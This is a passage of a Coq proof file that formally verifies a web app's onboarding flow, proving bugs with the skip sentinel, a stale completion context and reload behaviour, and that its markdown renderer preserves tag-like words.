  destruct (res_body res); [apply while_read_keeps_answers | reflexivity].
Qed.

(** What a submission leaves in [context] and [history]: the trimmed answer
    whenever it is not empty, whatever the server sends back. *)
Lemma submit_records parse sessionId st q value net :
  Onboarding.currentQuestion st = Some q ->
  Onboarding.isAnimating st = false ->
  let st' := Onboarding.run st (Onboarding.submit parse sessionId st value net) in
  if truthy (trim value) then
    Onboarding.context st' = <[q_field q := trim value]> (Onboarding.context st)
    /\ Onboarding.history st'
       = Onboarding.history st ++ [(q_question q, trim value)]
  else
    Onboarding.context st' = Onboarding.context st
    /\ Onboarding.history st' = Onboarding.history st.
Proof.
  intros Hq Hidle st'. subst st'. unfold Onboarding.submit.
  rewrite Hq, Hidle.
  pose proof (received_keeps_answers parse (Onboarding.context st) net) as Hrec.
  destruct (truthy (trim value)); simpl.
  - unfold Onboarding.run. simpl. rewrite fold_left_app. simpl.
    match goal with |- context [fold_left _ ?es ?s0] =>
      destruct (run_keeps_answers es s0 Hrec) as [Hc Hh] end.
    unfold Onboarding.run in Hc, Hh. rewrite Hc, Hh. split; reflexivity.
  - unfold Onboarding.run. simpl. rewrite fold_left_app. simpl.
    match goal with |- context [fold_left _ ?es ?s0] =>
      destruct (run_keeps_answers es s0 Hrec) as [Hc Hh] end.
    unfold Onboarding.run in Hc, Hh. rewrite Hc, Hh. split; reflexivity.
Qed.

(** Blank input is sent as the sentinel and records nothing. *)
Lemma blank_input_records_nothing parse sessionId st q value net :
  Onboarding.currentQuestion st = Some q ->
  Onboarding.isAnimating st = false ->
  trim value = [] ->
  let es := Onboarding.submit parse sessionId st value net in
  In (Onboarding.Fetch sessionId (js "skip")) es
  /\ Onboarding.context (Onboarding.run st es) = Onboarding.context st
  /\ Onboarding.history (Onboarding.run st es) = Onboarding.history st.
Proof.
  intros Hq Hidle Hblank es. split.
  - subst es. unfold Onboarding.submit. rewrite Hq, Hidle, Hblank. simpl.
    right. right. left. reflexivity.
  - pose proof (submit_records parse sessionId st q value net Hq Hidle) as H.
    simpl in H. rewrite Hblank in H. exact H.
Qed.

(** C4 fails on the skip button. [submit('skip')] trims the sentinel to
    itself, finds it truthy and records it as the answer: the field is
    mapped to ["skip"] and the history gains an entry, whatever the server
    answers. *)
Theorem skip_button_records_the_sentinel
    (parse : jsstring -> option SSEEvent) (sessionId : jsstring)
    (st : Onboarding.State) (q : Question) (net : FetchResult) :
  Onboarding.currentQuestion st = Some q ->
  Onboarding.isAnimating st = false ->
  let st' := Onboarding.run st
               (Onboarding.submit parse sessionId st (js "skip") net) in
  Onboarding.context st' !! q_field q = Some (js "skip")
  /\ Onboarding.history st'
     = Onboarding.history st ++ [(q_question q, js "skip")].
Proof.
  intros Hq Hidle st'.
  pose proof (submit_records parse sessionId st q (js "skip") net Hq Hidle) as H.
  change (trim (js "skip")) with (js "skip") in H.
  change (truthy (js "skip")) with true in H. simpl in H.
  destruct H as [Hc Hh]. subst st'. rewrite Hc, Hh.
  split; [apply lookup_insert_eq | reflexivity].
Qed.

Lemma skip_button_records_the_sentinel_witness :
  let st := Onboarding.asking goals_question ∅ in
  let st' := Onboarding.run st
               (Onboarding.submit toy_parse (js "s1") st (js "skip")
                  FetchRejects) in
  Onboarding.context st' !! js "goals" = Some (js "skip")
  /\ Onboarding.history st' = [(js "What are your goals?", js "skip")].
Proof.
  intros st st'.
  apply (skip_button_records_the_sentinel toy_parse (js "s1") st
           goals_question FetchRejects); reflexivity.
Defined.

(** ** The context handed to [onComplete] *)

Lemma on_line_completes_with parse ctx line :
  forallb (Onboarding.completes_with ctx)
    (fst (Onboarding.on_line parse ctx line)) = true.
Proof.
  unfold Onboarding.on_line.
  destruct (startsWith _ line); [|reflexivity].
  destruct (parse _) as [e|]; [|reflexivity].
  destruct (has_type "onboarding_question" e), (ev_question e),
    (has_type "onboarding_complete" e); simpl;
    rewrite ?bool_decide_eq_true_2; reflexivity.
Qed.

Lemma for_lines_completes_with parse ctx lines :
  forallb (Onboarding.completes_with ctx)
    (fst (Onboarding.for_lines parse ctx lines)) = true.
Proof.
  induction lines as [|line lines IH]; simpl; [reflexivity|].
  pose proof (on_line_completes_with parse ctx line) as H.
  destruct (Onboarding.on_line parse ctx line) as [es returned].
  destruct returned; [exact H|].
  destruct (Onboarding.for_lines parse ctx lines) as [es' returned'].
  simpl in *. rewrite forallb_app, H, IH. reflexivity.
Qed.

Lemma while_read_completes_with parse ctx chunks : forall buf,
  forallb (Onboarding.completes_with ctx)
    (Onboarding.while_read parse ctx buf chunks) = true.
Proof.
  induction chunks as [|chunk chunks IH]; intros buf; simpl; [reflexivity|].
  match goal with |- context [Onboarding.for_lines parse ctx ?lines] =>
    pose proof (for_lines_completes_with parse ctx lines) as H;
    destruct (Onboarding.for_lines parse ctx lines) as [es returned]
  end.
  destruct returned; [exact H|].
  simpl in H. rewrite forallb_app, H, IH. reflexivity.
Qed.

Lemma submit_completes_with parse sessionId st value net :
  forallb (Onboarding.completes_with (Onboarding.context st))
    (Onboarding.submit parse sessionId st value net) = true.
Proof.
  unfold Onboarding.submit.
  destruct (Onboarding.currentQuestion st) as [q|]; [|reflexivity].
  destruct (Onboarding.isAnimating st); [reflexivity|].
  rewrite !forallb_app. rewrite !andb_true_iff. repeat split.
  - destruct (truthy (trim value)); reflexivity.
  - destruct net as [|res]; [reflexivity|].
    destruct (res_body res); [apply while_read_completes_with | reflexivity].
Qed.

(** C5 fails on the answer being submitted. Whatever [submit] hands to
    [onComplete] is the [context] of the render it was created in; the
    entry it has just asked [setContext] to add is not in that map. *)
Theorem onComplete_receives_the_context_of_the_render
    (parse : jsstring -> option SSEEvent) (sessionId : jsstring)
    (st : Onboarding.State) (value : jsstring) (net : FetchResult)
    (ctx : gmap jsstring jsstring) :
  In (Onboarding.OnComplete ctx)
     (Onboarding.submit parse sessionId st value net) ->
  ctx = Onboarding.context st.
Proof.
  intros Hin.
  pose proof (submit_completes_with parse sessionId st value net) as Hall.
  rewrite forallb_forall in Hall. specialize (Hall _ Hin). simpl in Hall.
  apply bool_decide_eq_true in Hall. exact Hall.
Qed.

(** The last question answered with " Grow ": the server completes the
    onboarding, and the shell receives a context without the answer. *)
Lemma final_answer_is_missing :
  let st := Onboarding.asking goals_question {[ js "company" := js "Acme" ]} in
  let net := streamed [js "data: {onboarding_complete}" ++ [10]] in
  let es := Onboarding.submit toy_parse (js "s1") st (js " Grow ") net in
  es = [Onboarding.SetIsAnimating true;
        Onboarding.SetContext (js "goals") (js "Grow");
        Onboarding.AppendHistory (js "What are your goals?") (js "Grow");
        Onboarding.SetInputValue [];
        Onboarding.Fetch (js "s1") (js "Grow");
        Onboarding.OnComplete {[ js "company" := js "Acme" ]};
        Onboarding.SetIsAnimating false]
  /\ Onboarding.context (Onboarding.run st es) !! js "goals" = Some (js "Grow")
  /\ App.context
       (App.after_onboarding
          {| App.sessionId := js "s1"; App.appState := App.onboarding;
             App.context := ∅ |} es) !! js "goals" = None.
Proof. intros st net es. repeat split; vm_compute; reflexivity. Qed.

Lemma onComplete_receives_the_context_of_the_render_witness :
  ({[ js "company" := js "Acme" ]} : gmap jsstring jsstring)
  = Onboarding.context
      (Onboarding.asking goals_question {[ js "company" := js "Acme" ]}).
Proof.
  apply (onComplete_receives_the_context_of_the_render toy_parse (js "s1")
           (Onboarding.asking goals_question {[ js "company" := js "Acme" ]})
           (js " Grow ")
           (streamed [js "data: {onboarding_complete}" ++ [10]])).
  rewrite (proj1 final_answer_is_missing). simpl. tauto.
Defined.

(** ** Leaving the onboarding *)

Lemma shell_keeps_the_boardroom actions : forall st,
  forallb keeps_the_session actions = true ->
  App.appState st = App.boardroom ->
  App.appState (fold_left App.step actions st) = App.boardroom
  /\ App.sessionId (fold_left App.step actions st) = App.sessionId st.
Proof.
  induction actions as [|a actions IH]; intros st Hkeep Hst; [auto|].
  simpl in Hkeep. apply andb_true_iff in Hkeep as [Ha Hkeep].
  destruct a as [ctx|newId|text]; [|discriminate Ha|]; simpl.
  - apply (IH (App.handleOnboardingComplete ctx st) Hkeep). reflexivity.
  - apply (IH st Hkeep Hst).
Qed.

Lemma shell_enters_by_completion sid actions :
  App.appState (fold_left App.step actions (shell_on_load sid)) = App.boardroom ->
  exists before ctx after,
    actions = before ++ App.OnboardingCompleted ctx :: after
    /\ forallb keeps_the_session after = true.
Proof.
  induction actions as [|a actions IH] using rev_ind; [discriminate|].
  rewrite fold_left_app. destruct a as [ctx|newId|text]; simpl.
  - intros _. exists actions, ctx, []. split; reflexivity.
  - discriminate.
  - intros H. destruct (IH H) as (before & ctx & after & -> & Hkeep).
    exists before, ctx, (after ++ [App.ChatMessage text]).
    split; [rewrite <- app_assoc; reflexivity|].
    rewrite forallb_app, Hkeep. reflexivity.
Qed.

(** C6, amended. Within one page load the shell shows the chat view
    exactly when an onboarding has completed and no reset has followed: once
    the chat view is shown, chat messages and completions keep it, for the
    same session, and only a reset brings the onboarding component back.
    Every page load starts in the onboarding component; a load whose
    session start reports the onboarding as complete hands the stored
    context to the shell, which shows the chat view, and sets no question;
    any other load stays in the onboarding component. *)
Theorem onboarding_returns_only_by_reset (sid : jsstring) :
  (forall before ctx after,
      forallb keeps_the_session after = true ->
      let mid := fold_left App.step before (shell_on_load sid) in
      let st := fold_left App.step
                  (before ++ App.OnboardingCompleted ctx :: after)
                  (shell_on_load sid) in
      App.render st = App.BoardroomView (App.sessionId mid) (App.context st))
  /\ (forall actions,
        App.appState (fold_left App.step actions (shell_on_load sid))
        = App.boardroom ->
        exists before ctx after,
          actions = before ++ App.OnboardingCompleted ctx :: after
          /\ forallb keeps_the_session after = true)
  /\ (forall answer,
        let es := Onboarding.load answer in
        let shell := App.after_onboarding (shell_on_load sid) es in
        match answer with
        | Some data =>
            if Onboarding.ss_onboarding_complete data then
              es = [Onboarding.OnComplete (Onboarding.ss_context data)]
              /\ Onboarding.currentQuestion
                   (Onboarding.run Onboarding.initial es) = None
              /\ App.render shell
                 = App.BoardroomView sid (Onboarding.ss_context data)
            else App.render shell = App.OnboardingView sid
        | None => App.render shell = App.OnboardingView sid
        end).
Proof.
  split; [|split].
  - intros before ctx after Hkeep mid st. subst mid st.
    rewrite fold_left_app. simpl.
    set (mid := fold_left App.step before (shell_on_load sid)).
    destruct (shell_keeps_the_boardroom after
                (App.handleOnboardingComplete ctx mid) Hkeep eq_refl)
      as [Hview Hsid].
    unfold App.render. rewrite Hview, Hsid. reflexivity.
  - apply shell_enters_by_completion.
  - intros [data|]; simpl; [|reflexivity]. unfold Onboarding.load.
    destruct (Onboarding.ss_onboarding_complete data); [repeat split|].
    destruct (Onboarding.ss_question data); reflexivity.
Qed.

Lemma onboarding_returns_only_by_reset_witness :
  let before := [App.ChatMessage (js "hello")] in
  let after := [App.ChatMessage (js "should we raise?");
                App.OnboardingCompleted ∅;
                App.ChatMessage (js "and when?")] in
  let st := fold_left App.step
              (before
               ++ App.OnboardingCompleted {[ js "company" := js "Acme" ]}
               :: after)
              (shell_on_load (js "s1")) in
  forallb keeps_the_session after = true
  /\ App.render st
     = App.BoardroomView
         (App.sessionId (fold_left App.step before (shell_on_load (js "s1"))))
         (App.context st).
Proof.
  intros before after st. split; [reflexivity|].
  apply (proj1 (onboarding_returns_only_by_reset (js "s1"))
           before {[ js "company" := js "Acme" ]} after).
  reflexivity.
Defined.

(** C6 as stated fails across page loads: a session whose onboarding has
    completed and which shows the chat view is, after a reload under the
    same stored session identifier, back in the onboarding component, and
    stays there when the request for the session start fails. *)
Lemma completed_session_is_back_in_the_onboarding :
  let completed :=
    fold_left App.step
      [App.OnboardingCompleted {[ js "company" := js "Acme" ]}]
      (shell_on_load (js "s1")) in
  let stored :=
    {| Session.storage := {[ Session.SESSION_KEY := js "s1" ]};
       Session.calls := 0 |} in
  let reloaded :=
    App.after_onboarding
      (shell_on_load (fst (Session.init (fun _ => 11) stored)))
      (Onboarding.load None) in
  App.render completed
  = App.BoardroomView (js "s1") {[ js "company" := js "Acme" ]}
  /\ App.render reloaded = App.OnboardingView (js "s1")
  /\ Onboarding.currentQuestion
       (Onboarding.run Onboarding.initial (Onboarding.load None)) = None.
Proof. intros completed stored reloaded. repeat split. Qed.

(** ** The events of a run *)
Section RunEvents.
Import Orchestration.









End RunEvents.



(** ** Tags in rendered markdown *)
Section Tags.
Import Markdown.

Lemma startsWith_split p : forall s,
  startsWith p s = true -> s = p ++ drop (length p) s.
Proof.
  induction p as [|a p IH]; intros s H; [reflexivity|].
  destruct s as [|b s]; [discriminate|]. simpl in H.
  apply andb_true_iff in H as [Hab Hp]. apply N.eqb_eq in Hab. subst b.
  simpl. f_equal. apply IH, Hp.
Qed.

Lemma occurs_app_l w a b : occurs w a -> occurs w (a ++ b).
Proof.
  intros (x & y & ->). exists x, (y ++ b). rewrite <- !app_assoc. reflexivity.
Qed.

Lemma occurs_app_r w a b : occurs w b -> occurs w (a ++ b).
Proof.
  intros (x & y & ->). exists (a ++ x), y. rewrite <- !app_assoc. reflexivity.
Qed.

Lemma includes_occurs w : forall s, occurs w s -> includes w s = true.
Proof.
  assert (Hprefix : forall y, startsWith w (w ++ y) = true).
  { intros y. induction w as [|c w IH]; [reflexivity|]. simpl.
    rewrite N.eqb_refl. exact IH. }
  assert (Hstep : forall s,
             includes w s
             = startsWith w s
               || match s with [] => false | _ :: s' => includes w s' end)
    by (intros []; reflexivity).
  intros s (x & y & ->). induction x as [|c x IH].
  - rewrite Hstep. simpl. rewrite (Hprefix y). reflexivity.
  - rewrite Hstep. simpl. rewrite IH. apply orb_true_r.
Qed.

(** A tag-like word occurs only where a [<] is. *)
Lemma occurs_skips w a b :
  tag_like w -> 60 ∉ a -> occurs w (a ++ b) -> occurs w b.
Proof.
  intros (t & -> & _ & _) Ha (x & y & Heq).
  apply app_eq_inv in Heq as [(k & -> & Hb) | (k & -> & ->)].
  - destruct k as [|c k].
    + simpl in Hb. exists [], y. symmetry. exact Hb.
    + simpl in Hb. injection Hb as <- _. exfalso. apply Ha.
      apply elem_of_app. right. left.
  - exists k, y. reflexivity.
Qed.

Lemma occurs_nowhere w a : tag_like w -> 60 ∉ a -> ~ occurs w a.
Proof.
  intros Hw Ha H. rewrite <- (app_nil_r a) in H.
  apply occurs_skips in H; [|exact Hw|exact Ha].
  destruct Hw as (t & -> & _). destruct H as (x & y & H).
  destruct x; discriminate.
Qed.

(** The heart of the argument: an occurrence on a border lies on one of
    its sides. *)
Lemma occurs_border w a b :
  tag_like w -> border a b -> occurs w (a ++ b) -> occurs w a \/ occurs w b.
Proof.
  intros (t & Hw & Hopen & Hclose) Hborder (x & y & Heq).
  apply app_eq_inv in Heq as [(k & Ha & Hb) | (k & -> & ->)].
  2: { right. exists k, y. reflexivity. }
  symmetry in Hb. apply app_eq_inv in Hb as [(k' & Hk & ->) | (k' & Hwk & ->)].
  { left. exists x, k'. rewrite Ha, Hk. reflexivity. }
  destruct k as [|c0 k].
  { right. exists [], y. simpl in Hwk. rewrite Hwk. reflexivity. }
  destruct k' as [|c1 k'].
  { left. exists x, []. rewrite Ha, Hwk, !app_nil_r. reflexivity. }
  exfalso.
  destruct Hborder as [-> | [Hb | [(a' & c & Ha' & Hc) | (c & b' & Hb' & Hc)]]].
  - destruct x; discriminate.
  - discriminate.
  - (* the last unit of [a] is inside [w], before its last position *)
    destruct (exists_last (l := c0 :: k)) as (k0 & c' & Hk0); [discriminate|].
    rewrite Hk0 in Ha, Hwk. rewrite Ha, app_assoc in Ha'.
    apply app_inj_tail in Ha' as [_ ->].
    assert (Hin : c ∈ List.removelast w).
    { rewrite Hwk. rewrite List.removelast_app by discriminate.
      apply elem_of_app. left. apply elem_of_app. right. left. }
    rewrite Forall_forall in Hclose. rewrite (Hclose c Hin) in Hc.
    discriminate.
  - (* the first unit of [b] is inside [w], behind its first position *)
    injection Hb' as <- _.
    assert (Hin : c1 ∈ t).
    { rewrite Hw in Hwk. simpl in Hwk. injection Hwk as _ ->.
      apply elem_of_app. right. left. }
    rewrite Forall_forall in Hopen. rewrite (Hopen c1 Hin) in Hc.
    discriminate.
Qed.

Lemma last_unit_follows prev u c :
  last_unit prev (u ++ [c]) = Some c.
Proof.
  unfold last_unit. rewrite map_app. simpl.
  rewrite last_app_ne by discriminate. reflexivity.
Qed.

(** Copying and replacing under a pattern that respects [w] keeps every
    occurrence of [w]. *)
Lemma gsub_keeps w p :
  tag_like w -> respects w p ->
  forall fuel s pre prev,
    (length s <= fuel)%nat ->
    follows prev pre ->
    occurs w (pre ++ s) -> occurs w (pre ++ gsub p fuel prev s).
Proof.
  intros Hw Hp. induction fuel as [|fuel IH]; intros s pre prev Hlen Hpre Hocc.
  - destruct s; [exact Hocc | simpl in Hlen; lia].
  - simpl. destruct (p prev s) as [m|] eqn:Hm.
    + destruct (Hp prev s m Hm) as (Hs & Hne & Hleft & Hright & Hrep).
      rewrite Hs in Hocc, Hlen. rewrite length_app in Hlen.
      assert (Hmlen : (1 <= length (matched m))%nat)
        by (destruct (matched m); [congruence | simpl; lia]).
      assert (Hb : border pre (matched m ++ rest m)).
      { destruct Hpre as [-> | (pre' & c & -> & ->)]; [left; reflexivity|].
        destruct Hleft as [Hnone | [(c' & [= <-] & Hc) | (c' & u & Hu & Hc)]].
        - discriminate.
        - right. right. left. eauto.
        - right. right. right. rewrite Hu. simpl. eauto. }
      destruct (occurs_border w _ _ Hw Hb Hocc) as [Hin | Hin].
      * apply occurs_app_l, Hin.
      * apply occurs_app_r.
        destruct (occurs_border w _ _ Hw Hright Hin) as [Hin' | Hin'].
        -- apply occurs_app_l, Hrep, Hin'.
        -- apply occurs_app_r.
           apply (IH (rest m) [] (last_unit prev (matched m)));
             [lia | left; reflexivity | exact Hin'].
    + destruct s as [|c s]; [exact Hocc|].
      change (pre ++ c :: gsub p fuel (Some c) s)
        with (pre ++ [c] ++ gsub p fuel (Some c) s).
      rewrite app_assoc. apply IH.
      * simpl in Hlen. lia.
      * right. eauto.
      * rewrite <- app_assoc. exact Hocc.
Qed.

Lemma replace_keeps w p s :
  tag_like w -> respects w p -> occurs w s -> occurs w (replace p s).
Proof.
  intros Hw Hp Hocc.
  apply (gsub_keeps w p Hw Hp (length s) s [] None);
    [lia | left; reflexivity | exact Hocc].
Qed.

(** *** What the pieces of the patterns return *)

Lemma dot_star_split s run r :
  dot_star s = (run, r) ->
  s = run ++ r
  /\ (r = [] \/ exists c r', r = c :: r' /\ is_line_terminator c = true).
Proof.
  revert run r. induction s as [|c s IH]; intros run r H; simpl in H.
  - injection H as <- <-. split; [reflexivity | left; reflexivity].
  - destruct (is_line_terminator c) eqn:Hc.
    + injection H as <- <-. split; [reflexivity | right; eauto].
    + destruct (dot_star s) as [run' r'] eqn:Hs. injection H as <- <-.
      destruct (IH run' r' eq_refl) as [-> Hr]. split; [reflexivity | exact Hr].
Qed.

Lemma dot_plus_lazy_split close s run r :
  dot_plus_lazy close s = Some (run, r) ->
  s = run ++ close ++ r /\ run <> [].
Proof.
  revert run r. induction s as [|c s IH]; intros run r H; simpl in H;
    [discriminate|].
  destruct (is_line_terminator c); [discriminate|].
  destruct (startsWith close s) eqn:Hclose.
  - injection H as <- <-. split; [|discriminate].
    simpl. f_equal. apply startsWith_split, Hclose.
  - destruct (dot_plus_lazy close s) as [[run' r']|]; [|discriminate].
    injection H as <- <-. destruct (IH run' r' eq_refl) as [-> _].
    split; [reflexivity | discriminate].
Qed.

Lemma digits_split s ds r :
  digits s = (ds, r) -> s = ds ++ r /\ 60 ∉ ds.
Proof.
  revert ds r. induction s as [|c s IH]; intros ds r H; simpl in H.
  - injection H as <- <-. split; [reflexivity | apply not_elem_of_nil].
  - destruct (is_digit c) eqn:Hc.
    + destruct (digits s) as [ds' r'] eqn:Hs. injection H as <- <-.
      destruct (IH ds' r' eq_refl) as [-> Hds]. split; [reflexivity|].
      intros Hin. apply elem_of_cons in Hin as [<- | Hin]; [|exact (Hds Hin)].
      discriminate.
    + injection H as <- <-. split; [reflexivity | apply not_elem_of_nil].
Qed.

Lemma upto_last_close_cons c s :
  upto_last_close (c :: s)
  = match (if is_line_terminator c then None else upto_last_close s) with
    | Some (run, r) => Some (c :: run, r)
    | None =>
        if startsWith (js "</li>") (c :: s)
        then Some (js "</li>", drop 5 (c :: s))
        else None
    end.
Proof. reflexivity. Qed.

Lemma upto_last_close_split s run r :
  upto_last_close s = Some (run, r) ->
  s = run ++ r /\ exists u, run = u ++ [62].
Proof.
  revert run r. induction s as [|c s IH]; intros run r H;
    [discriminate|].
  rewrite upto_last_close_cons in H.
  destruct (if is_line_terminator c then None else upto_last_close s)
    as [[run' r']|] eqn:Hdeep.
  - injection H as <- <-.
    destruct (is_line_terminator c); [discriminate|].
    destruct (IH run' r' Hdeep) as (-> & u & ->).
    split; [reflexivity|]. exists (c :: u). reflexivity.
  - destruct (startsWith (js "</li>") (c :: s)) eqn:Hclose; [|discriminate].
    injection H as <- <-. split.
    + apply startsWith_split in Hclose. exact Hclose.
    + exists (js "</li"). reflexivity.
Qed.

Lemma optional_newline_split s nl r :
  optional_newline s = (nl, r) ->
  s = nl ++ r /\ (nl = [] \/ nl = [10]).
Proof.
  unfold optional_newline. intros H. destruct s as [|c s].
  - injection H as <- <-. auto.
  - destruct (N.eqb_spec c 10) as [-> | _]; injection H as <- <-; auto.
Qed.

Lemma list_item_split s m r :
  list_item s = Some (m, r) ->
  s = m ++ r
  /\ (exists u, m = 60 :: u)
  /\ (exists u c, m = u ++ [c] /\ closes c = true).
Proof.
  unfold list_item. intros H.
  destruct (startsWith (js "<li>") s) eqn:Hopen; [|discriminate].
  apply startsWith_split in Hopen.
  change (length (js "<li>")) with 4%nat in Hopen.
  destruct (upto_last_close (drop 4 s)) as [[run r']|] eqn:Hrun;
    [|discriminate].
  apply upto_last_close_split in Hrun as (Hs & u & ->).
  rewrite Hs in Hopen. clear Hs.
  destruct (optional_newline r') as [nl r''] eqn:Hnl.
  apply optional_newline_split in Hnl as [-> Hnl].
  assert (Hm : m = js "<li>" ++ (u ++ [62]) ++ nl) by congruence.
  assert (Hr : r = r'') by congruence.
  subst m r. clear H. split; [|split].
  - rewrite Hopen. rewrite <- !app_assoc. reflexivity.
  - eexists. reflexivity.
  - destruct Hnl as [-> | ->].
    + exists (js "<li>" ++ u), 62. rewrite app_nil_r, <- app_assoc. auto.
    + exists (js "<li>" ++ u ++ [62]), 10. rewrite <- !app_assoc. auto.
Qed.

Lemma list_items_split fuel : forall s m r,
  list_items fuel s = Some (m, r) ->
  s = m ++ r
  /\ (exists u, m = 60 :: u)
  /\ (exists u c, m = u ++ [c] /\ closes c = true).
Proof.
  induction fuel as [|fuel IH]; intros s m r H; simpl in H.
  - destruct (list_item s) as [[m1 r1]|] eqn:H1; [|discriminate].
    injection H as <- <-. apply list_item_split, H1.
  - destruct (list_item s) as [[m1 r1]|] eqn:H1; [|discriminate].
    apply list_item_split in H1 as (-> & (u1 & ->) & Hlast1).
    destruct (list_items fuel r1) as [[m2 r2]|] eqn:H2.
    + injection H as <- <-.
      apply IH in H2 as (-> & _ & (u2 & c2 & -> & Hc2)).
      split; [simpl; rewrite <- ?app_assoc; reflexivity|].
      split; [eexists; reflexivity|].
      exists ((60 :: u1) ++ u2), c2.
      split; [simpl; rewrite <- ?app_assoc; reflexivity | exact Hc2].
    + injection H as <- <-.
      split; [reflexivity|]. split; [eexists; reflexivity | exact Hlast1].
Qed.

(** *** Each pattern of the renderer respects tag-like words *)

Ltac open_match H :=
  apply (inj Some) in H; rewrite <- H; cbn [matched replacement rest].

Lemma line_terminator_bars c :
  is_line_terminator c = true -> opens c = true /\ closes c = true.
Proof.
  intros H. unfold opens, closes. rewrite H, !orb_true_r. split; reflexivity.
Qed.

Lemma at_line_start_left prev :
  at_line_start prev = true ->
  prev = None \/ exists c, prev = Some c /\ closes c = true.
Proof.
  destruct prev as [c|]; simpl; [|left; reflexivity].
  intros H. right. exists c. split; [reflexivity|].
  apply line_terminator_bars, H.
Qed.

Lemma dot_star_border u run r :
  dot_star u = (run, r) -> forall a, border (a ++ run) r.
Proof.
  intros H a. apply dot_star_split in H as [_ [-> | (c & r' & -> & Hc)]].
  - right. left. reflexivity.
  - right. right. right. exists c, r'. split; [reflexivity|].
    apply line_terminator_bars, Hc.
Qed.

Lemma delimited_respects w delim before after :
  tag_like w -> 60 ∉ delim ->
  (exists d, delim = 42 :: d) -> (exists d, delim = d ++ [42]) ->
  respects w (delimited delim before after).
Proof.
  intros Hw Hlt (d1 & Hd1) (d2 & Hd2) prev s m H. unfold delimited in H.
  destruct (startsWith delim s) eqn:Hopen; [|discriminate].
  apply startsWith_split in Hopen.
  destruct (dot_plus_lazy delim (drop (length delim) s)) as [[run r]|] eqn:Hrun;
    [|discriminate].
  apply dot_plus_lazy_split in Hrun as [Hs _]. rewrite Hs in Hopen.
  open_match H. repeat split.
  - rewrite Hopen at 1. rewrite <- !app_assoc. reflexivity.
  - rewrite Hd1. discriminate.
  - right. right. exists 42, (d1 ++ run ++ delim).
    split; [rewrite Hd1 at 1; reflexivity | reflexivity].
  - right. right. left. exists (delim ++ run ++ d2), 42.
    split; [|reflexivity]. rewrite Hd2 at 2. rewrite <- !app_assoc.
    reflexivity.
  - intros Hocc.
    apply occurs_border in Hocc as [Hocc | Hocc]; [| | exact Hw |].
    + exfalso. exact (occurs_nowhere w delim Hw Hlt Hocc).
    + apply occurs_border in Hocc as [Hocc | Hocc]; [| | exact Hw |].
      * apply occurs_app_r, occurs_app_l, Hocc.
      * exfalso. exact (occurs_nowhere w delim Hw Hlt Hocc).
      * right. right. right. rewrite Hd1. eauto.
    + right. right. left. rewrite Hd2. eauto.
Qed.

Lemma line_with_prefix_respects w prefix before after :
  tag_like w -> 60 ∉ prefix ->
  respects w (line_with_prefix prefix before after).
Proof.
  intros Hw Hlt prev s m H. unfold line_with_prefix in H.
  destruct (at_line_start prev) eqn:Hstart; [|discriminate].
  destruct (startsWith prefix s) eqn:Hopen; [|discriminate].
  apply startsWith_split in Hopen. simpl in H.
  destruct (dot_star (drop (length prefix) s)) as [run r] eqn:Hrun.
  destruct run as [|c run]; [discriminate|].
  pose proof (dot_star_border _ _ _ Hrun prefix) as Hborder.
  apply dot_star_split in Hrun as [Hs _]. rewrite Hs in Hopen.
  open_match H. repeat split.
  - rewrite Hopen at 1. rewrite <- !app_assoc. reflexivity.
  - destruct prefix; discriminate.
  - apply at_line_start_left in Hstart as [-> | Hc]; [left; reflexivity|].
    right. left. exact Hc.
  - exact Hborder.
  - intros Hocc. apply occurs_skips in Hocc; [|exact Hw|exact Hlt].
    apply occurs_app_r. exact (occurs_app_l w (c :: run) after Hocc).
Qed.

Lemma numbered_item_respects w : tag_like w -> respects w numbered_item.
Proof.
  intros Hw prev s m H. unfold numbered_item in H.
  destruct (at_line_start prev) eqn:Hstart; [|discriminate].
  destruct (digits s) as [ds r] eqn:Hds.
  destruct ds as [|d ds]; [discriminate|].
  apply digits_split in Hds as [Hs Hlt].
  destruct (startsWith (js ". ") r) eqn:Hdot; [|discriminate].
  apply startsWith_split in Hdot. change (length (js ". ")) with 2%nat in Hdot.
  destruct (dot_star (drop 2 r)) as [run r'] eqn:Hrun.
  destruct run as [|c run]; [discriminate|].
  pose proof (dot_star_border _ _ _ Hrun ((d :: ds) ++ js ". ")) as Hborder.
  apply dot_star_split in Hrun as [Hr _]. rewrite Hr in Hdot.
  open_match H. repeat split.
  - rewrite Hs, Hdot. simpl. rewrite <- ?app_assoc. reflexivity.
  - discriminate.
  - apply at_line_start_left in Hstart as [-> | Hc]; [left; reflexivity|].
    right. left. exact Hc.
  - rewrite <- app_assoc in Hborder. exact Hborder.
  - intros Hocc. apply occurs_skips in Hocc; [|exact Hw|exact Hlt].
    apply occurs_skips in Hocc; [|exact Hw|by_computation].
    apply (occurs_app_r w (js "<li>")).
    exact (occurs_app_l w (c :: run) (js "</li>") Hocc).
Qed.

Lemma rule_respects w : tag_like w -> respects w rule.
Proof.
  intros Hw prev s m H. unfold rule in H.
  destruct (at_line_start prev) eqn:Hstart; [|discriminate].
  destruct (startsWith (js "---") s) eqn:Hopen; [|discriminate].
  apply startsWith_split in Hopen. change (length (js "---")) with 3%nat in Hopen.
  simpl in H.
  assert (Hnone : ~ occurs w (js "---")).
  { apply occurs_nowhere; [exact Hw | by_computation]. }
  apply at_line_start_left in Hstart.
  destruct (drop 3 s) as [|c r] eqn:Hrest.
  - open_match H. repeat split.
    + rewrite Hopen at 1. reflexivity.
    + discriminate.
    + destruct Hstart as [-> | Hc]; [left; reflexivity | right; left; exact Hc].
    + right. left. reflexivity.
    + intros Hocc. exfalso. exact (Hnone Hocc).
  - destruct (is_line_terminator c) eqn:Hc; [|discriminate].
    open_match H. repeat split.
    + rewrite Hopen at 1. reflexivity.
    + discriminate.
    + destruct Hstart as [-> | Hc']; [left; reflexivity | right; left; exact Hc'].
    + right. right. right. exists c, r. split; [reflexivity|].
      apply line_terminator_bars, Hc.
    + intros Hocc. exfalso. exact (Hnone Hocc).
Qed.

Lemma blank_line_respects w : tag_like w -> respects w blank_line.
Proof.
  intros Hw prev s m H. unfold blank_line in H.
  destruct (startsWith [10; 10] s) eqn:Hopen; [|discriminate].
  apply startsWith_split in Hopen. simpl length in Hopen.
  open_match H. repeat split.
  - exact Hopen.
  - discriminate.
  - right. right. exists 10, [10]. split; reflexivity.
  - right. right. left. exists [10], 10. split; reflexivity.
  - intros Hocc. exfalso. revert Hocc.
    apply occurs_nowhere; [exact Hw | by_computation].
Qed.

Lemma item_block_respects w : tag_like w -> respects w item_block.
Proof.
  intros Hw prev s m H. unfold item_block in H.
  destruct (list_items (length s) s) as [[m' r]|] eqn:Hitems; [|discriminate].
  apply list_items_split in Hitems as (Hs & (u & Hu) & Hlast).
